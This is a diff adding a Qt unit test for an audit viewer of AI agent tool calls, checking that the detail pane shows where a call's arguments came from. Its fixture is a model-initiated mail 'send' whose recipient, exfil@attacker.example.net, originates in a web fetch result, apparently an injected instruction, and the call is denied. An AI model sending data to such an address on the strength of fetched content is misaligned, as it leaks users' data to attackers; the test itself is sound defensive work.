@@ -35,7 +35,41 @@ class tst_AuditDetailPane final : public QObject
     Q_OBJECT
 private slots:
     void showsTheTaskSection();
+    void showsWhereArgumentsCameFrom();
 };
+
+void tst_AuditDetailPane::showsWhereArgumentsCameFrom()
+{
+    QTemporaryDir dir;
+    QVERIFY(dir.isValid());
+    const QString path = dir.filePath(u"audit.sqlite"_s);
+    {
+        AuditLog log(AuditLog::Options{.path = path});
+        AuditToolCallIntent intent;
+        intent.server = {u"mail"_s, u"mail-server"_s, {}};
+        intent.tool = u"send"_s;
+        intent.arguments = {{u"to"_s, u"exfil@attacker.example.net"_s}};
+        intent.initiator = CallInitiator::Model;
+        intent.argumentOrigins = {ArgumentOrigin{u"/to"_s, u"exfil@attacker.example.net"_s, ArgumentOrigin::SourceKind::ToolResult,
+                                                 u"web"_s, u"<b>fetch</b>"_s, 12}};
+        const auto ticket = log.recordIntent(intent);
+        log.recordDecision(ticket, ApprovalDecision::deny(u"no"_s));
+        log.recordOutcome(ticket, makeOutcome(ToolCallOutcome::Kind::Denied));
+        QVERIFY(log.waitForWrites());
+    }
+    AuditWindow view(path);
+    view.resize(1000, 700);
+    view.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&view));
+    AuditTableModel *model = view.model();
+    QTRY_VERIFY_WITH_TIMEOUT(!model->isLoading() && model->rowCount() == 1, 10000);
+    QSignalSpy recordShown(&view, &AuditWindow::recordShown);
+    view.table()->setCurrentIndex(model->index(0, 0));
+    QVERIFY(recordShown.wait(10000));
+    const QString summary = view.detailPane()->summary()->text();
+    QVERIFY2(summary.contains(u"/to (“exfil@attacker.example.net”): from &lt;b&gt;fetch&lt;/b&gt; on server «web», call #12"_s),
+             qPrintable(summary));
+}
 
 void tst_AuditDetailPane::showsTheTaskSection()
 {
